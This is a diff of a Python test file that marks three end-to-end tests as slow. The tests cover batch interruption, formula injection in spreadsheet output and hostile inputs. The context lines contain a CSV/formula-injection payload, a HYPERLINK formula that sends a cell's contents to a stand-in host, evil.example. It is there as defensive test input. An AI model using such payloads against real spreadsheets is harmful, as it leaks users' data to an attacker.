@@ -205,6 +205,7 @@ def interrupt_paused_batch(tmp_path: Path) -> tuple[int, str, float]:
     return proc.returncode, stderr, time.monotonic() - started
 
 
+@pytest.mark.slow  # end to end; .ci/run runs it (-m slow)
 def test_ctrl_c_ends_a_paused_batch(tmp_path):
     code, stderr, _ = interrupt_paused_batch(tmp_path)
     assert code == 130 and "Traceback" not in stderr and "interrupted" in stderr
@@ -222,6 +223,7 @@ def test_ctrl_c_ends_a_paused_batch_every_time(tmp_path):
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&B3,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
 
 
+@pytest.mark.slow  # end to end; .ci/run runs it (-m slow)
 def test_summary_cells_are_text_never_formulas(cli, tmp_path):
     inputs = [nn_with(tmp_path, f"c{i}.yaml", cluster_name=f) for i, f in enumerate(FORMULAS)]
     out = tmp_path / "out"
@@ -252,6 +254,7 @@ def test_questionnaire_texts_are_text_never_formulas(cli, tmp_path, kb):
 # --- High 6: one hostile input does not abort a batch ------------------------------------------
 
 
+@pytest.mark.slow  # end to end; .ci/run runs it (-m slow)
 def test_hostile_inputs_are_reported_and_the_rest_drafted(cli, tmp_path, monkeypatch):
     src = tmp_path / "in"
     src.mkdir()
